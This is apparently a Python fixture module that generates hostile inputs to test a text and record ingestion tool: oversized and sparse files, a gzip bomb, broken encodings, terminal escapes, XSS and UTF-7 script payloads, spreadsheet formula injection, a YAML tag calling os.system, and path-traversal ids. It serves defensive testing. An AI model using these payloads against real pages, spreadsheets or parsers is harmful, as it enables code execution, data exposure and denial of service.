"""Bad texts and records: sizes, encodings, bytes that no text has, words that act on a terminal, a page or a sheet."""

import codecs
import gzip
import json
import random
from collections.abc import Callable
from pathlib import Path

from hostile.cases import MIB, STORY, Fate, content, made

Big = Callable[[int], int]
EITHER, READ, REFUSED = Fate.EITHER, Fate.READ, Fate.REFUSED


# Sizes


@content("empty.txt", REFUSED)
def _(big: Big) -> str:
    """No byte."""
    return ""


@content("spaces.txt", REFUSED)
def _(big: Big) -> str:
    """Spaces and line ends."""
    return " \t\r\n" * 500


@content("one-word-100mb.txt", REFUSED)
def _(big: Big) -> bytes:
    """100 MB of one word."""
    return b"killed" * (max(2 * MIB, big(100 * MIB)) // 6)


@content("one-word-19mb.txt", REFUSED)
def _(big: Big) -> bytes:
    """One word, a little under the limit of bytes."""
    return b"a" * max(2 * MIB, big(19 * MIB))


@content("one-word-900k.txt", EITHER)
def _(big: Big) -> bytes:
    """One word under every limit."""
    return b"a" * big(900_000)


@content("a-million-lines.txt", EITHER)
def _(big: Big) -> bytes:
    """Lines of one letter."""
    return b"a\n" * big(450_000)


@made("sparse-100gb.txt", REFUSED)
def _(path: Path, big: Big) -> None:
    """A file of 100 GB that takes no room."""
    with path.open("wb") as stream:
        stream.truncate(100 << 30)


@content("gzip-bomb.txt.gz", REFUSED)
def _(big: Big) -> bytes:
    """A thousand times larger when unpacked."""
    return gzip.compress(b"\n" * big(600 * MIB), mtime=0)


@content("gzip-in-gzip.txt.gz.gz", EITHER)
def _(big: Big) -> bytes:
    """Packed three times."""
    return gzip.compress(gzip.compress(gzip.compress(b" " * big(60 * MIB), mtime=0), mtime=0), mtime=0)


@content("gzip-truncated.txt.gz", REFUSED)
def _(big: Big) -> bytes:
    """The packed file breaks off."""
    return gzip.compress(random.Random(1).randbytes(5000).hex().encode(), mtime=0)[:3000]


@content("gzip-wrong-sum.txt.gz", REFUSED)
def _(big: Big) -> bytes:
    """The check sum is another's."""
    return gzip.compress(STORY.encode(), mtime=0)[:-8] + b"\0\0\0\1\0\0\0\1"


# Bytes and encodings


@content("nul-bytes.txt", REFUSED)
def _(big: Big) -> bytes:
    """NUL between the letters."""
    return STORY.encode().replace(b" ", b" \0\0")


@content("every-byte.bin", REFUSED)
def _(big: Big) -> bytes:
    """All 256 bytes."""
    return bytes(range(256)) * 20


@content("noise.txt", REFUSED)
def _(big: Big) -> bytes:
    """Random bytes that call themselves a text."""
    return random.Random(2).randbytes(big(MIB))


@content("noise", REFUSED)
def _(big: Big) -> bytes:
    """Random bytes without a suffix."""
    return random.Random(3).randbytes(100_000)


@content("broken-utf8.txt", READ)
def _(big: Big) -> bytes:
    """UTF-8 with broken letters."""
    return ("Żółć — " + STORY).encode() + b"\xc3\x28 \xff\xfe \xe2\x82 " + STORY.encode()


@content("overlong-utf8.txt", READ)
def _(big: Big) -> bytes:
    """Slashes and NULs written with more bytes than they need."""
    return ("Żółć — Gołąb. " * 20 + STORY).encode() + b"\xc0\xaf\xc0\x80\xe0\x80\xaf"


@content("surrogates-utf8.txt", READ)
def _(big: Big) -> str:
    """Halves of characters as UTF-8 must not hold them."""
    return "Żółć — Gołąb. " * 20 + STORY + "\ud800\udfff\udc00"


@content("mixed-encodings.txt", EITHER)
def _(big: Big) -> bytes:
    """A text pasted together from four code pages."""
    russian = "Погибли четыре человека, сообщил губернатор. "
    return STORY.encode() + russian.encode("utf-8") + russian.encode("cp1251") + russian.encode("koi8-r") + b"\x80\x9f"


@content("utf16-odd.txt", READ)
def _(big: Big) -> bytes:
    """UTF-16 that ends in the middle of a letter."""
    return codecs.BOM_UTF16_LE + (STORY * 3).encode("utf-16-le") + b"\x41"


@content("utf32.txt", EITHER)
def _(big: Big) -> bytes:
    """UTF-32 with its mark, which begins as that of UTF-16 does."""
    return (STORY * 3).encode("utf-32")


@content("two-marks.txt", READ)
def _(big: Big) -> bytes:
    """Two byte order marks."""
    return codecs.BOM_UTF8 * 2 + STORY.encode()


@content("only-a-mark.txt", REFUSED)
def _(big: Big) -> bytes:
    """A byte order mark and no text."""
    return codecs.BOM_UTF8


@content("utf7.txt", EITHER)
def _(big: Big) -> bytes:
    """A script hidden in UTF-7."""
    return STORY.encode() + b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"


@content("control-characters.txt", EITHER)
def _(big: Big) -> str:
    """Bells, backspaces and form feeds."""
    return STORY.replace(" ", " \a\b\f\v")


# Words that act


@content("terminal.txt", READ)
def _(big: Big) -> str:
    """Escape sequences that clear the screen, rename the window and colour what follows."""
    return (
        STORY
        + "\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31m\x9b31m Colonel \x1b[8mRadko\x1b[0m Shilmer said that 9 people died."
    )


@content("right-to-left.txt", READ)
def _(big: Big) -> str:
    """Overrides of the direction of writing around a name and a number."""
    return STORY + "Police said that \u202e12\u202c people were killed in \u2067Orun\u2069. \u200f\u200e\u061c" + STORY


@content("scripts.txt", READ)
def _(big: Big) -> str:
    """Markup in the words that a page repeats: speaker, place, group, quote."""
    return (
        "<script>alert(1)</script> police said that four <img src=x onerror=alert(2)> workers were killed in Orun on "
        "Thursday.\n\n\"><svg/onload=alert(3)> 'Dana <b onmouseover=alert(4)>Merev</b>' was arrested in </title>"
        "</textarea><iframe src=javascript:alert(5)> Orun, the governor's </script><script>alert(6)</script> office "
        "said. {{7*7}} ${7*7} <!--\n" + STORY
    )


@content("formulas.txt", READ)
def _(big: Big) -> str:
    """Formulas for a spreadsheet where a speaker, a name and a title stand."""
    return (
        "=cmd|' /C calc'!A0\n\n@SUM(1+9)*cmd|' /C calc'!A0 police said that four people were killed in Orun on 13 "
        "March 2031. +1+1 officers said that 12 were wounded. -2+3+cmd|' /C calc'!A0 was arrested in Orun.\n"
        '=HYPERLINK("http://x.example/?"&A1,"click") said that three people died in Orun.\n'
    )


@content("combining-marks.txt", EITHER)
def _(big: Big) -> str:
    """Ten thousand marks on one letter."""
    return STORY + "Police said that four people di" + "\u0301\u0336\u0489" * big(100_000) + "ed in Orun."


@content("private-characters.txt", EITHER)
def _(big: Big) -> str:
    """Characters that no font holds, and none at all."""
    return STORY + "\ue000\U000f0000\uffff\ufffe\U0010ffff\u0378" * 500


# What keeps a reader busy


@content("one-sentence.txt", EITHER)
def _(big: Big) -> str:
    """A sentence of 150,000 words."""
    return "Police said that " + "four people were killed in Orun and " * big(21_000) + "went home."


@content("figures-only.txt", EITHER)
def _(big: Big) -> str:
    """Fifty thousand tolls."""
    return " ".join(f"{n} people were killed in Orun, police said." for n in range(1, big(20_000)))


@content("numbers-and-commas.txt", EITHER)
def _(big: Big) -> str:
    """A number that never ends."""
    return STORY + "1," * big(200_000) + " people were killed."


@content("parentheses.txt", EITHER)
def _(big: Big) -> str:
    """Nothing but brackets that open."""
    return STORY + "(" * big(300_000)


@content("quotation-marks.txt", EITHER)
def _(big: Big) -> str:
    """Quotations that are never closed."""
    return STORY + '"They shot four people, "he said ' * big(20_000)


@content("a-number-of-5000-digits.txt", READ)
def _(big: Big) -> str:
    """A toll with 5,000 digits."""
    return STORY + f"Police said that {'9' * 5000} people were killed and {'8' * 400} million wounded in Orun."


@content("days-that-are-none.txt", READ)
def _(big: Big) -> str:
    """Dates outside every calendar."""
    return (
        "ORUN, 31 February 99999 (Halda Wire) - Police killed four people in Orun on 99/99/9999 at 99:99.\n"
        "On 30 February 0000 three people were killed. On 1 January 10000000000000000000 they came back. "
        "999999999999999999999 years ago, minus 5 days later, soldiers killed two people.\n" + STORY
    )


@content("capitals.txt", EITHER)
def _(big: Big) -> str:
    """A hundred thousand names in a row."""
    return STORY + "Dana Merev Ivo Taral " * big(40_000)


@content("updates.txt", EITHER)
def _(big: Big) -> str:
    """Ten thousand updates of one report."""
    return "".join(
        f"UPDATE {n % 28 + 1:02}/03/2031 {n % 24:02}:00 GMT: more\n\nPolice killed {n} people in Orun.\n\n"
        for n in range(big(10_000))
    )


@content("markdown-bomb.md", EITHER)
def _(big: Big) -> str:
    """Quotes in quotes and links that never close."""
    return STORY + ">" * big(50_000) + "\n" + "[" * big(50_000) + "![](" * big(20_000) + "*_" * big(50_000)


@content("front-matter-bomb.md", EITHER)
def _(big: Big) -> str:
    """Anchors in the front matter that grow tenfold a line."""
    lines = ['a0: &a0 ["lol"]'] + [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    return "---\n" + "\n".join(lines) + "\ntitle: !!python/object/apply:os.system ['touch owned']\n---\n\n" + STORY


@content("front-matter-open.md", READ)
def _(big: Big) -> str:
    """Front matter that never ends."""
    return "---\ntitle: x\n" + STORY


# Records


def _records(*rows: object) -> str:
    return "".join(json.dumps(row) + "\n" for row in rows)


@content("deep.jsonl", EITHER)
def _(big: Big) -> str:
    """Lists in lists, 100,000 deep, beside a good line."""
    return '{"text": ' + "[" * big(100_000) + "\n" + _records({"doc_id": "deep-good", "text": STORY})


@content("objects-deep.jsonl", REFUSED)
def _(big: Big) -> str:
    """Objects in objects."""
    return '{"a":' * big(100_000) + "1" + "}" * big(100_000)


@content("digits.jsonl", EITHER)
def _(big: Big) -> str:
    """Numbers of 100,000 digits where an id or a time should be."""
    return f'{{"doc_id": {"9" * big(100_000)}, "text": "x"}}\n{{"published": 1e999999, "text": {json.dumps(STORY)}}}\n'


@content("half-characters.jsonl", READ)
def _(big: Big) -> str:
    """Halves of characters in every field."""
    fields = {"doc_id": "half\ud800", "title": "\udfff", "publisher": "\ud800", "text": f"\ud800 {STORY}"}
    return _records(fields)


@content("no-objects.jsonl", REFUSED)
def _(big: Big) -> str:
    """Lines that are no objects."""
    return '1\n"text"\nnull\n[]\n{}\n{"text": null}\n{"text": ["a"]}\n{"text": " "}\ntrue false\n{"text": "cut off\n'


@content("wrong-types.jsonl", READ)
def _(big: Big) -> str:
    """Every field of a wrong kind."""
    return _records({"doc_id": [1], "title": {"a": 1}, "published": -1, "url": True, "publisher": 1.5, "text": STORY})


@content("same-ids.jsonl", READ)
def _(big: Big) -> str:
    """A thousand records of one name."""
    return _records(*({"doc_id": "same-id", "text": f"{STORY} {n}"} for n in range(max(50, big(1000)))))


@content("not-a-number.jsonl", EITHER)
def _(big: Big) -> str:
    """NaN and Infinity."""
    return f'{{"doc_id": NaN, "published": -Infinity, "text": {json.dumps(STORY)}}}\n'


@content("ids-that-are-paths.jsonl", READ)
def _(big: Big) -> str:
    """Ids that lead out of a folder, end a line or a page, or are endless."""
    ids = [
        "../../../escaped",
        "/tmp/escaped",
        "..",
        "",
        "a" * 5000,
        "<script>alert(7)</script>",
        "=1+1",
        "x\ny",
        "\x1b[2J",
    ]
    ids += ["C:\\escaped", "con", "\u202egpj", "data/chronicle.json", "index.html", "%2e%2e%2fescaped", "a/../../b"]
    return _records(*({"doc_id": name, "text": f"{STORY} {n} people died."} for n, name in enumerate(ids)))


@content("addresses.jsonl", READ)
def _(big: Big) -> str:
    """Addresses that run a script or name a file."""
    urls = ["javascript:alert(8)", "data:text/html,<script>alert(9)</script>", "file:///etc/passwd", "http://[::1"]
    return _records(*({"doc_id": f"url-{n}", "url": url, "text": STORY} for n, url in enumerate(urls)))


@content("a-line-of-21mb.jsonl", REFUSED)
def _(big: Big) -> bytes:
    """One record over the limit."""
    return b'{"doc_id": "long", "text": "' + b"a" * max(2 * MIB, big(21 * MIB)) + b'"}\n'


@content("blank-lines.jsonl", REFUSED)
def _(big: Big) -> bytes:
    """A million lines of nothing."""
    return b"\n" * big(1_000_000)


@content("noise.jsonl", REFUSED)
def _(big: Big) -> bytes:
    """Random bytes that call themselves records."""
    return random.Random(4).randbytes(20_000)
